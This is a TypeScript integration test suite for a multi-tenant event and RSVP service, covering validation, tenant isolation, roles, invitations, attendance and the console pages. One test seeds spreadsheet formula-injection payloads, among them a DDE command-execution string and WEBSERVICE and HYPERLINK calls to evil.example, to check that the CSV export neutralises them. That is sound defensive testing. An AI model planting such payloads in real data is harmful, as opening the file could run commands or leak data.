import { GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LocalRuntime, startLocalRuntime } from '../../infra/local/runtime.js';
import { contactsPage } from '../../shared/directory/store/contacts.js';
import { answer, countersKey, ensureInvitation, getEvent } from '../../shared/meetings/store.js';
import { documentClient } from '../../shared/platform/aws/clients.js';
import { FORMULA_TRIGGERS } from '../../shared/platform/csv/csv.js';
import { tenantPk } from '../../shared/platform/table/table.js';
import { formatNumber } from '../../shared/platform/texts/format.js';
import { parseCsvDocument } from '../csv.js';
import { rsvpToken } from '../event-helpers.js';
import { consoleRequest as consolePost, staffClient, waitFor } from '../helpers.js';
import { addContacts } from '../mail-helpers.js';

/**
 * The staff side of events against the local runtime: the JSON API (validation, tenants,
 * roles, versions, the mails a change sends, invitations, attendance, the CSV export) and the
 * console pages (server-side form validation, the live view read from the counters item).
 */

let runtime: LocalRuntime;
const HLM_ADMIN = 'staff-hlm-anna';
const HLM_EDITOR = 'staff-hlm-erik';
const HLM_VIEWER = 'staff-hlm-maria';
const HEL_ADMIN = 'staff-hel-mette';
const TENANT = 'hassleholm';

const DAY = 86_400_000;
const future = (days: number, hourUtc = 10) => {
  const date = new Date(Date.now() + days * DAY);
  date.setUTCHours(hourUtc, 30, 0, 0);
  return date.toISOString();
};

const validEvent = (over: Record<string, unknown> = {}) => ({
  kind: 'dialogue-lunch',
  title: 'Dialoglunch: kompetensförsörjning',
  description: 'Vi bjuder på lunch och samtal.',
  agenda: [{ time: '11:30', title: 'Lunch' }],
  place: { name: 'Kulturhuset', address: 'Storgatan 1' },
  start: future(30),
  end: future(30, 12),
  rsvpDeadline: future(20),
  capacity: 40,
  seatLimitPerOrganisation: 2,
  language: 'sv',
  ...over,
});

type Api = Awaited<ReturnType<typeof staffClient>>;
let admin: Api;
let viewer: Api;
let helAdmin: Api;

async function createEvent(over: Record<string, unknown> = {}) {
  const response = await admin.call('POST', '/api/events', validEvent(over));
  expect(response.status, response.text).toBe(201);
  return response.json as { eventId: string; version: number; [key: string]: unknown };
}

async function eventCount(client: Api = admin) {
  return ((await client.call('GET', '/api/events')).json.items as unknown[]).length;
}

/** A console request with the session cookie (and a CSRF token for forms). */
const consoleRequest = (
  staffId: string,
  method: 'GET' | 'POST',
  path: string,
  form?: Record<string, string>,
) => consolePost(runtime, staffId, method, path, form);

beforeAll(async () => {
  runtime = await startLocalRuntime({ seed: true, log: () => {} });
  [admin, viewer, helAdmin] = await Promise.all([
    staffClient(runtime, HLM_ADMIN),
    staffClient(runtime, HLM_VIEWER),
    staffClient(runtime, HEL_ADMIN),
  ]);
});
afterAll(async () => {
  await runtime?.stop();
});

describe('creating events', () => {
  it('creates a draft: 201, stored as UTC instants, with a location', async () => {
    const response = await admin.call(
      'POST',
      '/api/events',
      validEvent({
        start: '2031-03-25T11:30:00+01:00',
        end: '2031-03-25T13:00:00+01:00',
        rsvpDeadline: '2031-03-18T12:00:00+01:00',
      }),
    );
    expect(response.status).toBe(201);
    expect(response.json).toMatchObject({ status: 'draft', version: 1, sequence: 0, tenantId: TENANT });
    expect(response.json.start).toBe('2031-03-25T10:30:00.000Z');
    expect(response.headers.get('location')).toBe(`/api/events/${response.json.eventId}`);
    const read = await viewer.call('GET', `/api/events/${response.json.eventId}`);
    expect(read.status).toBe(200);
    expect(read.json.counters).toMatchObject({ invited: 0, attending: 0, noAnswer: 0 });
  });

  it('refuses invalid input with 422 naming each field, and saves nothing', async () => {
    const before = await eventCount();
    const response = await admin.call('POST', '/api/events', {
      ...validEvent(),
      title: '',
      capacity: 0,
      place: { name: '' },
      start: 'tomorrow',
      kind: 'party',
    });
    expect(response.status).toBe(422);
    const fields = (response.json.details as { field: string }[]).map((d) => d.field);
    expect(fields).toEqual(
      expect.arrayContaining(['body.title', 'body.capacity', 'body.place.name', 'body.start', 'body.kind']),
    );
    const crossField = await admin.call('POST', '/api/events', validEvent({ end: future(29) }));
    expect(crossField.status).toBe(422);
    expect(crossField.json.details).toEqual([expect.objectContaining({ field: 'body.end' })]);
    const extra = await admin.call('POST', '/api/events', { ...validEvent(), tenantId: 'helsingor' });
    expect(extra.status).toBe(422);
    expect(await eventCount()).toBe(before);
  });
});

describe('tenants and roles', () => {
  it("gives 404 on another tenant's event for reads and writes alike, and changes nothing", async () => {
    const event = await createEvent();
    const path = `/api/events/${event.eventId}`;
    const missing = await helAdmin.call('GET', `/api/events/${crypto.randomUUID()}`);
    for (const [method, suffix, body] of [
      ['GET', '', undefined],
      ['PUT', '', { ...validEvent({ title: 'Kapad' }), expectedVersion: 1 }],
      ['POST', '/publish', undefined],
      ['POST', '/cancel', {}],
      ['GET', '/invitations', undefined],
      ['GET', '/export.csv', undefined],
      ['POST', '/attendance', { contactId: 'johan-ek', attended: true }],
    ] as const) {
      const response = await helAdmin.call(method, `${path}${suffix}`, body);
      expect(response.status, `${method} ${suffix}`).toBe(404);
      expect(response.json.error).toBe(missing.json.error);
    }
    const after = await admin.call('GET', path);
    expect(after.json).toMatchObject({ title: event.title, status: 'draft', version: 1 });
    expect(
      ((await helAdmin.call('GET', '/api/events')).json.items as { tenantId: string }[]).every(
        (e) => e.tenantId === 'helsingor',
      ),
    ).toBe(true);
  });

  it('lets a viewer read but not write', async () => {
    const event = await createEvent();
    const path = `/api/events/${event.eventId}`;
    expect((await viewer.call('GET', path)).status).toBe(200);
    expect((await viewer.call('GET', '/api/events')).status).toBe(200);
    expect((await viewer.call('POST', '/api/events', validEvent())).status).toBe(403);
    expect((await viewer.call('PUT', path, { ...validEvent(), expectedVersion: 1 })).status).toBe(403);
    expect((await viewer.call('POST', `${path}/publish`)).status).toBe(403);
    expect((await viewer.call('POST', `${path}/cancel`, {})).status).toBe(403);
    expect((await viewer.call('POST', `${path}/invitations`, { audience: { kind: 'all' } })).status).toBe(
      403,
    );
    expect((await viewer.call('POST', `${path}/attendance`, { contactId: 'x', attended: true })).status).toBe(
      403,
    );
    expect((await admin.call('GET', path)).json).toMatchObject({ status: 'draft', version: 1 });
    // The audience count is a read.
    expect(
      (await viewer.call('POST', `${path}/audience-preview`, { audience: { kind: 'all' } })).status,
    ).toBe(200);
  });
});

describe('the life of an event', () => {
  it('updates with optimistic locking; a draft changes without mail', async () => {
    const event = await createEvent();
    const path = `/api/events/${event.eventId}`;
    const first = await admin.call('PUT', path, {
      ...validEvent({ title: 'Ny rubrik' }),
      expectedVersion: 1,
    });
    expect(first.status).toBe(200);
    expect(first.json).toMatchObject({ title: 'Ny rubrik', version: 2, sequence: 0, notified: [] });
    const stale = await admin.call('PUT', path, { ...validEvent({ title: 'Annan' }), expectedVersion: 1 });
    expect(stale.status).toBe(409);
    expect((await admin.call('GET', path)).json.title).toBe('Ny rubrik');
  });

  it('turns open registration on and off through the API; the public page follows (issue 12, Build 4)', async () => {
    const bad = await admin.call('POST', '/api/events', validEvent({ openRegistration: 'yes' }));
    expect(bad.status).toBe(422);
    expect(bad.text).toContain('openRegistration');
    const event = await createEvent({ openRegistration: true });
    expect(event.openRegistration).toBe(true);
    const publicPage = () => fetch(`${runtime.url}/events/${TENANT}/${event.eventId}`);
    // A draft has no public page yet.
    expect((await publicPage()).status).toBe(404);
    expect((await admin.call('POST', `/api/events/${event.eventId}/publish`)).status).toBe(200);
    expect((await publicPage()).status).toBe(200);
    // A full replacement without the toggle turns it off.
    const off = await admin.call('PUT', `/api/events/${event.eventId}`, {
      ...validEvent(),
      expectedVersion: 2,
    });
    expect(off.status, off.text).toBe(200);
    expect(off.json.openRegistration).toBeUndefined();
    expect((await publicPage()).status).toBe(404);
  });

  it('publishes (scheduling the reminders), and tells attendees about a move with the SEQUENCE bumped', async () => {
    const event = await createEvent({
      reminders: { nonRespondersDaysBeforeDeadline: 3, attendeesDayBefore: true },
    });
    const path = `/api/events/${event.eventId}`;
    const published = await admin.call('POST', `${path}/publish`);
    expect(published.status).toBe(200);
    expect(published.json).toMatchObject({ status: 'published', version: 2 });
    const schedule = async (kind: string) =>
      (
        await documentClient.send(
          new GetCommand({
            TableName: runtime.tableName,
            Key: { pk: tenantPk(TENANT), sk: `SCHEDULE#reminder-${event.eventId}-${kind}` },
          }),
        )
      ).Item;
    // Scheduled by the reaction to MeetingPublished (outbox → bus → meeting-reactions).
    const attendeeReminder = await waitFor(() => schedule('attendees'), 15_000, 'the attendee reminder');
    expect(attendeeReminder?.dueAt).toBe(new Date(Date.parse(String(event.start)) - DAY).toISOString());
    expect(await schedule('non-responders')).toBeDefined();
    // Publishing again changes nothing.
    expect((await admin.call('POST', `${path}/publish`)).json.version).toBe(2);

    // Someone attends.
    const stored = await getEvent(TENANT, event.eventId);
    if (!stored) throw new Error('event not stored');
    await ensureInvitation({
      tenantId: TENANT,
      eventId: event.eventId,
      contactId: 'johan-ek',
      organisationId: 'krinova-incubator-science-park',
      organisationType: 'education',
    });
    expect(
      (
        await answer(
          stored,
          'johan-ek',
          { answer: 'attend', seats: 1, names: [], dietary: [] },
          { actor: 'test' },
        )
      ).result,
    ).toBe('attending');

    // The event moves a day and an hour later: attendees get one update.
    const moved = {
      ...validEvent(),
      start: new Date(Date.parse(String(event.start)) + DAY + 3_600_000).toISOString(),
      end: new Date(Date.parse(String(event.end)) + DAY + 3_600_000).toISOString(),
      expectedVersion: 2,
    };
    const updated = await admin.call('PUT', path, moved);
    expect(updated.status, updated.text).toBe(200);
    expect(updated.json).toMatchObject({ sequence: 1, version: 3, notified: ['time'] });
    const campaign = await waitFor(async () => {
      const items = (await admin.call('GET', '/api/campaigns')).json.items as {
        kind: string;
        content: { eventId?: string; changes?: { field: string; before: string; after: string }[] };
      }[];
      return items.find((c) => c.kind === 'event-updated' && c.content.eventId === event.eventId);
    });
    expect(campaign.content.changes?.[0]?.field).toBe('time');
    expect(campaign.content.changes?.[0]?.before).not.toBe(campaign.content.changes?.[0]?.after);
    // The reminder moved with the event.
    expect((await schedule('attendees'))?.dueAt).toBe(new Date(Date.parse(moved.start) - DAY).toISOString());
    // A change attendees do not see (the description) sends nothing and keeps the SEQUENCE.
    const quiet = await admin.call('PUT', path, {
      ...moved,
      description: 'Ny beskrivning',
      expectedVersion: 3,
    });
    expect(quiet.json).toMatchObject({ sequence: 1, version: 4, notified: [] });
  });

  it('gives new seats to the waitlist when the capacity grows, and refuses less than the seats taken', async () => {
    const event = await createEvent({ capacity: 1, seatLimitPerOrganisation: 1 });
    const path = `/api/events/${event.eventId}`;
    await admin.call('POST', `${path}/publish`);
    const stored = await getEvent(TENANT, event.eventId);
    if (!stored) throw new Error('event not stored');
    for (const [contactId, organisationId] of [
      ['karin-holm', 'foretagarna-hassleholm'],
      ['per-olsson', 'lrf-skane'],
    ] as const) {
      await ensureInvitation({
        tenantId: TENANT,
        eventId: event.eventId,
        contactId,
        organisationId,
        organisationType: 'business-association',
      });
    }
    expect(
      (
        await answer(
          stored,
          'karin-holm',
          { answer: 'attend', seats: 1, names: [], dietary: [] },
          { actor: 'test' },
        )
      ).result,
    ).toBe('attending');
    expect(
      (
        await answer(
          stored,
          'per-olsson',
          { answer: 'attend', seats: 1, names: [], dietary: [] },
          { actor: 'test' },
        )
      ).result,
    ).toBe('waitlisted');
    const grown = await admin.call('PUT', path, {
      ...validEvent({ capacity: 2, seatLimitPerOrganisation: 1 }),
      expectedVersion: 2,
    });
    expect(grown.status, grown.text).toBe(200);
    expect(grown.json.promoted).toEqual(['per-olsson']);
    const read = await admin.call('GET', path);
    expect(read.json.counters).toMatchObject({ attending: 2, attendingSeats: 2, waitlisted: 0 });
    const shrunk = await admin.call('PUT', path, {
      ...validEvent({ capacity: 1, seatLimitPerOrganisation: 1 }),
      expectedVersion: 3,
    });
    expect(shrunk.status).toBe(422);
    expect(shrunk.json.details).toEqual([expect.objectContaining({ field: 'body.capacity' })]);
  });

  it('cancels: attendees are told once, and a cancelled event cannot change', async () => {
    const event = await createEvent();
    const path = `/api/events/${event.eventId}`;
    await admin.call('POST', `${path}/publish`);
    const stored = await getEvent(TENANT, event.eventId);
    if (!stored) throw new Error('event not stored');
    await ensureInvitation({
      tenantId: TENANT,
      eventId: event.eventId,
      contactId: 'sara-lund',
      organisationId: 'nyforetagarcentrum-nordostra-skane',
      organisationType: 'business-association',
    });
    await answer(
      stored,
      'sara-lund',
      { answer: 'attend', seats: 1, names: [], dietary: [] },
      { actor: 'test' },
    );
    const cancelled = await admin.call('POST', `${path}/cancel`, {
      message: 'Vi återkommer med nytt datum.',
    });
    expect(cancelled.status).toBe(200);
    expect(cancelled.json.status).toBe('cancelled');
    const campaign = await waitFor(async () => {
      const items = (await admin.call('GET', '/api/campaigns')).json.items as {
        kind: string;
        content: { eventId?: string };
      }[];
      const found = items.filter((c) => c.kind === 'event-cancelled' && c.content.eventId === event.eventId);
      return found.length > 0 ? found : undefined;
    });
    await new Promise((r) => setTimeout(r, 1000));
    expect(campaign).toHaveLength(1);
    expect((await admin.call('POST', `${path}/cancel`)).status).toBe(200);
    expect((await admin.call('PUT', path, { ...validEvent(), expectedVersion: 3 })).status).toBe(409);
    expect((await admin.call('POST', `${path}/publish`)).status).toBe(409);
    expect((await admin.call('POST', `${path}/invitations`, { audience: { kind: 'all' } })).status).toBe(409);
  });
});

describe('inviting', () => {
  it('invites only to a published event; counts the audience; lists invitations with names', async () => {
    const event = await createEvent();
    const path = `/api/events/${event.eventId}`;
    const contacts = (await contactsPage(TENANT, undefined, 100)).items;
    const picked = contacts.slice(0, 2).map((c) => c.contactId);
    const audience = { kind: 'contacts', contactIds: picked };
    const draft = await admin.call('POST', `${path}/invitations`, { audience });
    expect(draft.status).toBe(409);
    const all = await admin.call('POST', `${path}/audience-preview`, { audience: { kind: 'all' } });
    expect(all.json.count).toBe(contacts.length);
    const types = await admin.call('POST', `${path}/audience-preview`, {
      audience: { kind: 'organisation-types', types: ['business-association'] },
    });
    expect(types.json.count).toBe(3);
    expect((await admin.call('POST', `${path}/audience-preview`, { audience })).json.count).toBe(2);
    expect(
      (
        await admin.call('POST', `${path}/invitations`, {
          audience: { kind: 'event', eventId: event.eventId, statuses: ['invited'] },
        })
      ).status,
    ).toBe(422);

    await admin.call('POST', `${path}/publish`);
    const sent = await admin.call('POST', `${path}/invitations`, { audience, markdownIntro: 'Välkomna!' });
    expect(sent.status, sent.text).toBe(202);
    expect(sent.json.campaignId).toEqual(expect.any(String));
    const page = await waitFor(
      async () => {
        const list = await viewer.call('GET', `${path}/invitations?limit=1`);
        return list.json.items && (list.json.items as unknown[]).length > 0 && list.json.cursor
          ? list.json
          : undefined;
      },
      20_000,
      'the invitations',
    );
    const [first] = page.items as {
      contactId: string;
      contactName: string;
      organisationName: string;
      status: string;
    }[];
    expect(picked).toContain(first?.contactId);
    expect(first?.contactName).toBe(contacts.find((c) => c.contactId === first?.contactId)?.name);
    expect(first?.organisationName).not.toBe('');
    const next = await viewer.call('GET', `${path}/invitations?limit=1&cursor=${page.cursor as string}`);
    expect((next.json.items as { contactId: string }[])[0]?.contactId).not.toBe(first?.contactId);
    // A cursor from another list is refused.
    const foreign = Buffer.from(JSON.stringify({ pk: 'T#helsingor#EVENT#x', sk: 'INVITE#a' })).toString(
      'base64url',
    );
    expect((await viewer.call('GET', `${path}/invitations?cursor=${foreign}`)).status).toBe(422);
    const sendAtAfterDeadline = await admin.call('POST', `${path}/invitations`, {
      audience,
      sendAt: future(25),
    });
    expect(sendAtAfterDeadline.status).toBe(422);
  });

  it('marks who came, once', async () => {
    const event = await createEvent();
    const path = `/api/events/${event.eventId}`;
    const stored = await getEvent(TENANT, event.eventId);
    if (!stored) throw new Error('event not stored');
    await ensureInvitation({
      tenantId: TENANT,
      eventId: event.eventId,
      contactId: 'ola-persson',
      organisationId: 'region-skane',
      organisationType: 'public-partner',
    });
    await answer(
      stored,
      'ola-persson',
      {
        answer: 'attend',
        seats: 2,
        names: ['Ola', 'Eva'],
        dietary: ['vegan'],
      },
      { actor: 'test' },
    );
    const editor = await staffClient(runtime, HLM_EDITOR);
    const mark = await editor.call('POST', `${path}/attendance`, {
      contactId: 'ola-persson',
      attended: true,
    });
    expect(mark.json).toMatchObject({ attended: true, changed: true });
    const again = await editor.call('POST', `${path}/attendance`, {
      contactId: 'ola-persson',
      attended: true,
    });
    expect(again.json).toMatchObject({ changed: false });
    expect(
      (await editor.call('POST', `${path}/attendance`, { contactId: 'nobody', attended: true })).status,
    ).toBe(404);
    expect((await admin.call('GET', path)).json.counters).toMatchObject({
      attended: 1,
      // The whole answer marked: both people present; diets counted per person (issue 12).
      present: 2,
      attendingSeats: 2,
      dietary: { vegan: 2 },
    });
  });
});

describe('the attendee list (CSV)', () => {
  it('neutralises formulas in every cell people typed', async () => {
    const event = await createEvent();
    const stored = await getEvent(TENANT, event.eventId);
    if (!stored) throw new Error('event not stored');
    const put = (item: Record<string, unknown>) =>
      documentClient.send(new PutCommand({ TableName: runtime.tableName, Item: item }));
    const evil = [
      {
        id: 'csv-eq',
        name: '=HYPERLINK("http://evil.example","klicka")',
        org: '=1+1 AB',
        names: ['=cmd|" /C calc"!A0'],
      },
      { id: 'csv-plus', name: '+46701234567', org: '+Plus AB', names: ['+SUM(1)'] },
      { id: 'csv-minus', name: '-2+3', org: '-Minus AB', names: ['-1'] },
      { id: 'csv-at', name: '@SUM(A1)', org: '@At AB', names: ['@cmd'] },
    ];
    for (const e of evil) {
      await put({
        pk: tenantPk(TENANT),
        sk: `ORG#${e.id}-org`,
        type: 'organisation',
        organisationId: `${e.id}-org`,
        tenantId: TENANT,
        name: e.org,
        organisationType: 'company',
      });
      await put({
        pk: tenantPk(TENANT),
        sk: `CONTACT#${e.id}`,
        type: 'contact',
        contactId: e.id,
        tenantId: TENANT,
        organisationId: `${e.id}-org`,
        name: e.name,
        email: `${e.id}@evil.example`,
        language: 'sv',
      });
      await ensureInvitation({
        tenantId: TENANT,
        eventId: event.eventId,
        contactId: e.id,
        organisationId: `${e.id}-org`,
        organisationType: 'company',
      });
      await answer(
        stored,
        e.id,
        {
          answer: 'attend',
          seats: 1,
          names: e.names,
          dietary: [],
          note: '=WEBSERVICE("http://evil.example")',
          accessibility: '@rullstol',
        },
        { actor: 'test' },
      );
    }
    const response = await admin.call('GET', `/api/events/${event.eventId}/export.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
    const bytes = new Uint8Array(
      await (
        await fetch(`${runtime.url}/api/events/${event.eventId}/export.csv`, {
          headers: { authorization: `Bearer ${admin.token}` },
        })
      ).arrayBuffer(),
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = response.text.replace(/^\uFEFF/, '');
    const cells = parseCsvDocument(text, ',');
    expect(cells.length).toBe(evil.length + 1);
    for (const cell of cells.flat()) {
      expect((FORMULA_TRIGGERS as readonly string[]).includes(cell.charAt(0)), cell).toBe(false);
    }
    for (const e of evil) {
      expect(cells.flat()).toContain(`'${e.name}`);
      expect(cells.flat()).toContain(`'${e.org}`);
      expect(cells.flat()).toContain(`'${e.names[0]}`);
    }
    expect(cells.flat()).toContain(`'=WEBSERVICE("http://evil.example")`);
    const semicolon = await viewer.call(
      'GET',
      `/api/events/${event.eventId}/export.csv?sep=semicolon&lang=en`,
    );
    // fetch's text() drops the BOM (checked on the bytes above).
    expect(semicolon.text.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe(
      'Organisation;Contact person;Email;Participants;Seats;Dietary needs;Accessibility;Note;Status;Attended',
    );
    expect((await viewer.call('GET', `/api/events/${event.eventId}/export.csv?sep=tab`)).status).toBe(422);
    // The console's link gives the same file with the session cookie.
    const consoleCsv = await consoleRequest(HLM_VIEWER, 'GET', `/console/events/${event.eventId}/export.csv`);
    expect(consoleCsv.status).toBe(200);
    expect(consoleCsv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(parseCsvDocument(await consoleCsv.text(), ',').flat()).toContain(`'${evil[0]?.name}`);
    // And badges, one per name.
    const badges = await consoleRequest(HLM_VIEWER, 'GET', `/console/events/${event.eventId}/badges`);
    expect(badges.status).toBe(200);
    const html = await badges.text();
    expect(html.match(/class="badge"/g)).toHaveLength(evil.length);
    expect(html).toContain('@media print');
  });
});

describe('console pages', () => {
  it('reads the live view from the counters item, whatever the number of invitations', async () => {
    const event = await createEvent();
    // Counters for 12,345 invitations, with not one invitation item: the page can only have read the counters.
    await documentClient.send(
      new PutCommand({
        TableName: runtime.tableName,
        Item: {
          ...countersKey(TENANT, event.eventId),
          type: 'event-counters',
          invited: 12_345,
          opened: 9_876,
          attending: 70,
          attendingSeats: 95,
          declined: 300,
          waitlisted: 5,
          waitlistedSeats: 7,
          attended: 0,
          'type_invited#company': 10_000,
          'type_attending#company': 60,
          diet_vegan: 4,
        },
      }),
    );
    const response = await consoleRequest(HLM_VIEWER, 'GET', `/console/events/${event.eventId}`);
    expect(response.status).toBe(200);
    const html = await response.text();
    const n = (value: number) => formatNumber(value, 'sv');
    expect(html).toContain(`<dt>Inbjudna</dt><dd>${n(12_345)}</dd>`);
    expect(html).toContain(`<dt>Inget svar</dt><dd>${n(12_345 - 70 - 300 - 5)}</dd>`);
    expect(html).toContain(`${n(95)} av ${n(40)} platser`);
    expect(html).toContain(`Beställ för ${n(95)} personer.`);
    expect(html).toContain('Vegansk');
    expect(html).toContain('Ingen är inbjuden ännu.');
    // A viewer gets no forms but the language switch and sign-out.
    expect(html.match(/<form/g)).toHaveLength(2);
    const hel = await consoleRequest(HEL_ADMIN, 'GET', `/console/events/${event.eventId}`);
    expect(hel.status).toBe(404);
  });

  it('draws the funnel and answers over time from what the capability keeps, agreeing with the page’s other figures and the API (issue 12)', async () => {
    // Prepare: three invited, two open their RSVP page (one twice), one answers for two people,
    // one declines, one of the two people is marked present.
    const created = await createEvent();
    expect((await admin.call('POST', `/api/events/${created.eventId}/publish`)).status).toBe(200);
    const event = await getEvent(TENANT, created.eventId);
    if (!event) throw new Error('event not stored');
    const ids = ['funnel-a', 'funnel-b', 'funnel-c'];
    await addContacts(
      runtime,
      TENANT,
      ids.map((contactId) => ({ contactId, email: `${contactId}@foretag.example` })),
    );
    for (const contactId of ids)
      await ensureInvitation({
        tenantId: TENANT,
        eventId: event.eventId,
        contactId,
        organisationId: `org-${contactId}`,
        organisationType: 'company',
      });
    for (const contactId of ['funnel-a', 'funnel-b', 'funnel-a']) {
      const page = await fetch(`${runtime.url}/rsvp/${await rsvpToken(event, contactId)}`);
      expect(page.status).toBe(200);
    }
    await answer(
      event,
      'funnel-a',
      { answer: 'attend', seats: 2, names: ['A', 'B'], dietary: [] },
      { actor: 'test' },
    );
    await answer(
      event,
      'funnel-b',
      { answer: 'decline', seats: 1, names: [], dietary: [] },
      { actor: 'test' },
    );
    // A changed answer is not a second answer.
    await answer(
      event,
      'funnel-b',
      { answer: 'decline', seats: 1, names: [], dietary: [] },
      { actor: 'test' },
    );
    const marked = await admin.call('POST', `/api/events/${event.eventId}/attendance`, {
      contactId: 'funnel-a',
      attended: true,
      person: 0,
    });
    expect(marked.status, marked.text).toBe(200);

    // Act
    const html = await (await consoleRequest(HLM_VIEWER, 'GET', `/console/events/${event.eventId}`)).text();
    const api = (await admin.call('GET', `/api/events/${event.eventId}`)).json.counters as Record<
      string,
      number
    >;

    // Assess: each step, in invited people and in people with those they bring.
    const step = (stage: string) =>
      new RegExp(
        `<tr data-stage="${stage}"><th scope="row">[^<]+</th><td class="num">(\\d+)</td><td class="num">(\\d+)</td>`,
      )
        .exec(html)
        ?.slice(1)
        .map(Number);
    expect(step('invited')).toEqual([3, 3]);
    expect(step('opened')).toEqual([2, 2]);
    expect(step('answered')).toEqual([2, 2]);
    expect(step('attending')).toEqual([1, 2]);
    expect(step('present')).toEqual([1, 1]);
    // The same numbers as the page's figures and the API.
    expect(html).toContain('<dt>Inbjudna</dt><dd>3</dd>');
    expect(html).toContain('<dt>Har öppnat</dt><dd>2</dd>');
    expect(html).toContain('<dt>Inget svar</dt><dd>1</dd>');
    expect(api).toMatchObject({
      invited: 3,
      opened: 2,
      attending: 1,
      attendingSeats: 2,
      declined: 1,
      present: 1,
    });
    expect((api.invited ?? 0) - (api.noAnswer ?? 0)).toBe(2);
    // Answers over time: today's two first answers, the total so far equal to "answered".
    const days = [
      ...html.matchAll(
        /<tr><th scope="row">[^<]+<\/th><td class="num">(\d+)<\/td><td class="num">(\d+)<\/td><\/tr>/g,
      ),
    ]
      .filter((m) => html.indexOf(m[0]) > html.indexOf('id="answers-per-day"'))
      .map((m) => [Number(m[1]), Number(m[2])]);
    expect(days.at(-1)).toEqual([2, 2]);
    // Charts as SVG with a name, the meaning of "opened" said on the page.
    expect(html).toMatch(/<svg[^>]*role="img"[^>]*aria-label="Tratt i inbjudna personer: Inbjudna 3/);
    expect(html).toMatch(/<svg[^>]*role="img"[^>]*aria-label="Svar över tid: 2 svar/);
    expect(html).toContain('ingen spårningspixel');
  });

  it('lists upcoming events with their counts', async () => {
    const event = await createEvent({ title: 'Frukostmöte om infrastruktur' });
    const response = await consoleRequest(HLM_ADMIN, 'GET', '/console/events');
    expect(response.status).toBe(200);
    const html = await response.text();
    expect(html).toContain(`href="/console/events/${event.eventId}"`);
    expect(html).toContain('Frukostmöte om infrastruktur');
    expect(html).toContain('aria-current="page"');
  });

  it('sends an invalid form back with the fields marked, and saves nothing', async () => {
    const before = await eventCount();
    const response = await consoleRequest(HLM_EDITOR, 'POST', '/console/events', {
      kind: 'workshop',
      title: '',
      language: 'sv',
      placeName: 'Kulturhuset',
      start: '2031-03-25T13:00',
      end: '2031-03-25T12:00',
      rsvpDeadline: '2031-03-18T12:00',
      capacity: 'många',
      seatLimitPerOrganisation: '2',
    });
    expect(response.status).toBe(422);
    const html = await response.text();
    for (const field of ['title', 'end', 'capacity']) {
      const input = new RegExp(`<input[^>]*id="event-${field}"[^>]*>`).exec(html)?.[0] ?? '';
      expect(input, field).toContain('aria-invalid="true"');
      expect(input, field).toContain(`event-${field}-error`);
      expect(html).toContain(`id="event-${field}-error"`);
    }
    expect(html).toContain('value="Kulturhuset"');
    expect(await eventCount()).toBe(before);
  });

  it('copies an event into a new one: everything but the dates, nothing saved until staff save (issue 12)', async () => {
    const source = await createEvent({
      title: 'Dialoglunch om kompetens',
      capacity: 32,
      agenda: [{ time: '11:30', title: 'Lunch' }],
    });
    const page = await consoleRequest(HLM_EDITOR, 'GET', `/console/events/${source.eventId}`);
    expect(await page.text()).toContain(
      `href="/console/events/new?from=${source.eventId}">Kopiera till nytt evenemang`,
    );
    const before = await eventCount();
    const copy = await consoleRequest(HLM_EDITOR, 'GET', `/console/events/new?from=${source.eventId}`);
    expect(copy.status).toBe(200);
    const html = await copy.text();
    expect(html).toContain('En kopia av ”Dialoglunch om kompetens”');
    const inputValue = (name: string) =>
      /value="([^"]*)"/.exec(new RegExp(`<input[^>]*name="${name}"[^>]*>`).exec(html)?.[0] ?? '')?.[1];
    expect(inputValue('title')).toBe('Dialoglunch om kompetens');
    expect(inputValue('capacity')).toBe('32');
    expect(html).toContain('11:30 Lunch');
    // The dates are the one thing a copy must not keep by mistake.
    for (const field of ['start', 'end', 'rsvpDeadline']) expect(inputValue(field) ?? '', field).toBe('');
    expect(html).toContain('action="/console/events"');
    expect(await eventCount()).toBe(before);
    // Another tenant's event, or no such event: not found; a viewer cannot make one.
    const hel = (await helAdmin.call('POST', '/api/events', validEvent({ title: 'Frokostmøde' }))).json;
    expect((await consoleRequest(HLM_EDITOR, 'GET', `/console/events/new?from=${hel.eventId}`)).status).toBe(
      404,
    );
    expect((await consoleRequest(HLM_EDITOR, 'GET', '/console/events/new?from=no-such-event')).status).toBe(
      404,
    );
    expect(
      (await consoleRequest(HLM_VIEWER, 'GET', `/console/events/new?from=${source.eventId}`)).status,
    ).toBe(403);
  });

  it('creates from the form with times on the tenant’s clock, then edits with the version', async () => {
    const created = await consoleRequest(HLM_EDITOR, 'POST', '/console/events', {
      kind: 'workshop',
      title: 'Workshop om etableringar',
      language: 'sv',
      placeName: 'Stadshuset',
      // 2031-03-30 is the day Sweden moves to summer time: 09:00 is UTC+2.
      start: '2031-03-30T09:00',
      end: '2031-03-30T11:00',
      rsvpDeadline: '2031-03-20T12:00',
      capacity: '25',
      seatLimitPerOrganisation: '2',
      agenda: '09:00 Välkommen\n09:15 Workshop',
      q_headcount: 'on',
      reminderAttendees: 'on',
    });
    expect(created.status).toBe(303);
    const location = created.headers.get('location') ?? '';
    expect(location).toMatch(/^\/console\/events\/[0-9a-f-]{36}\?notice=created$/);
    const eventId = location.split('/')[3]?.split('?')[0] ?? '';
    const stored = (await admin.call('GET', `/api/events/${eventId}`)).json;
    expect(stored).toMatchObject({
      start: '2031-03-30T07:00:00.000Z',
      rsvpDeadline: '2031-03-20T11:00:00.000Z',
      agenda: [
        { time: '09:00', title: 'Välkommen' },
        { time: '09:15', title: 'Workshop' },
      ],
      questions: { headcount: true, names: false },
    });
    const edit = await consoleRequest(HLM_EDITOR, 'GET', `/console/events/${eventId}/edit`);
    const form = await edit.text();
    expect(form).toContain('value="2031-03-30T09:00"');
    expect(form).toContain('name="expectedVersion" value="1"');
    const fields = {
      kind: 'workshop',
      title: 'Workshop om etableringar',
      language: 'sv',
      placeName: 'Stadshuset',
      start: '2031-03-30T10:00',
      end: '2031-03-30T12:00',
      rsvpDeadline: '2031-03-20T12:00',
      capacity: '30',
      seatLimitPerOrganisation: '2',
    };
    const saved = await consoleRequest(HLM_EDITOR, 'POST', `/console/events/${eventId}`, {
      ...fields,
      expectedVersion: '1',
    });
    expect(saved.status).toBe(303);
